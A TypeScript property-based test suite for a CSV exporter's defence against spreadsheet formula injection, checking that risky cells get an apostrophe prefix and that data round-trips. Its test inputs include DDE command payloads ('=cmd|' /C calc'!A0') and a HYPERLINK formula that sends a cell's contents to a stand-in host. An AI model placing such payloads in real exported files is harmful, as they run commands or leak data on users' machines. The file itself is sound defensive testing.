import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { withoutFormulas } from '../../../src/core/formulas.ts';
import type { CategoricalColumn, Table } from '../../../src/core/table/table.ts';
import { writeCsv } from '../../../src/core/table/write.ts';
import { inferSchema } from '../../../src/core/schema/infer.ts';
import { readTable } from '../../../src/core/table/read.ts';
import { cellText, numberColumn, tableOf, textColumn } from '../../fixtures/columns.ts';
import { readText } from './table/sources.ts';

describe('text that a spreadsheet would run', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x/?"&A1,"y")', `'=HYPERLINK("http://x/?"&A1,"y")`],
    ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
    ['-2+3+cmd|x', "'-2+3+cmd|x"],
    ['-A1', "'-A1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['＝1+1', "'＝1+1"],
    ['\t=1', "'\t'=1"],
    ['\rx', "'\rx"],
    ['\u200b=1+1', "'\u200b=1+1"],
    ['="x"&A1', `'="x"&A1`],
    ["-5,3+cmd|' /C calc'!A0", "'-5,3+cmd|' /C calc'!A0"],
    ['-1-5', "'-1-5"],
    // Found by a random seed: the apostrophe behind the number made it none.
    ['-1,\t==', "'-1,'\t'=="],
    ['a;=1+1', "a;'=1+1"],
    ['"=1+1', `"'=1+1`],
    ['two\n=1+1', "two\n'=1+1"],
  ])('%j gets an apostrophe', (text, safe) => expect(withoutFormulas(text)).toBe(safe));

  test.each([
    '-5',
    '+1',
    '-1,234.50',
    '-1e-7',
    '- 50000.',
    '50000+.',
    '+18 years',
    '-12 %',
    '<=50K',
    '>50K',
    '-',
    '=',
    '@',
    '1-5',
    'a;-5;b',
    'a=b',
    'e@mail',
    "'=1",
    'Holand-Netherlands',
    'Husband, 30-40',
    '',
  ])('%j stays as it is', (text) => expect(withoutFormulas(text)).toBe(text));
});

/** Texts rich in what matters here. */
const hostile = fc.oneof(
  fc.string({
    unit: fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '＝',
      '\t',
      '\r',
      '\n',
      ',',
      ';',
      '|',
      '"',
      "'",
      ' ',
      '1',
      'A',
      '(',
    ),
    maxLength: 12,
  }),
  fc.string({ unit: 'binary', maxLength: 12 }),
);

describe('whatever the text', () => {
  test('nothing is lost: without the apostrophes added it is the same', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const rest = [...withoutFormulas(text)];
        for (const character of text) {
          while (rest[0] !== character && rest[0] === "'") rest.shift();
          expect(rest.shift()).toBe(character);
        }
        expect(rest).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  test('twice is as good as once', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const once = withoutFormulas(text);
        expect(withoutFormulas(once)).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });

  test('nothing starts a formula, wherever the line is split', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const safe = withoutFormulas(text);
        expect(/^[\t\r\n]/.test(safe)).toBe(false);
        const starts = [0, ...Array.from(safe.matchAll(/[,;\t|\r\n"]/g), ({ index }) => index + 1)];
        for (const start of starts) {
          const rest = safe.slice(start).replace(/^[\s\u0000-\u001f\u200b\u2060\ufeff]+/u, '');
          if (rest.length < 2) continue;
          expect(rest).not.toMatch(/^[=@＝＠＋－]/u);
          if (/^[-+]/.test(rest)) expect(rest.split(/[;\t\r\n]/)[0]).toMatch(/^[-+]\s?\d[^(|!'"=@*/^&-]*$/);
        }
      }),
      { numRuns: 5000 },
    );
  });

  test('a megabyte takes no time to speak of', () => {
    for (const unit of ['=', ',=', '\n', '-1,', '"', '-1 a ']) {
      const long = unit.repeat(2 ** 20 / unit.length);
      expect(withoutFormulas(long).length).toBeGreaterThanOrEqual(long.length);
    }
  });
});

function table(names: readonly [string, string], cells: readonly string[]): Table {
  return tableOf([
    textColumn(names[0], cells),
    numberColumn(
      names[1],
      cells.map((_, row) => -row),
    ),
  ]);
}

describe('a file', () => {
  test('keeps numbers, neutralises names, categories and missing tokens, and only where asked to', () => {
    const odd: CategoricalColumn = { ...textColumn('=x', ['=1+1', null, '-5']), missingTokens: ['@NA'] };
    const source = tableOf([odd, numberColumn('n', [-1, -2.5, 3], 1)]);
    expect(writeCsv(source, ',', 'neutralised')).toBe("'=x,n\r\n'=1+1,-1\r\n'@NA,-2.5\r\n-5,3\r\n");
    expect(writeCsv(source)).toBe('=x,n\r\n=1+1,-1\r\n@NA,-2.5\r\n-5,3\r\n');
  });

  test('reads back: the same numbers, and each text as it was or with apostrophes', async () => {
    const cells = fc.array(
      hostile.map((text) => text.replaceAll('\u0000', '').trim() || 'x'),
      { minLength: 3, maxLength: 8 },
    );
    await fc.assert(
      fc.asyncProperty(cells, async (given) => {
        const source = table(['label', 'n'], [...given, 'word', 'other word']);
        const raw = await readText(writeCsv(source, ';', 'neutralised'));
        const read = readTable(raw, inferSchema(raw));
        const [label, n] = read.columns;
        expect(n!.kind === 'numeric' && [...n!.values]).toEqual(
          Array.from({ length: source.rows }, (_, row) => (row === 0 ? 0 : -row)),
        );
        if (label!.kind === 'numeric') return;
        for (let row = 0; row < source.rows; row++) {
          const text = cellText(source.columns[0]!, row)!;
          if (cellText(label!, row) !== null) expect(cellText(label!, row)).toBe(withoutFormulas(text));
        }
      }),
      { numRuns: 300 },
    );
  });
});
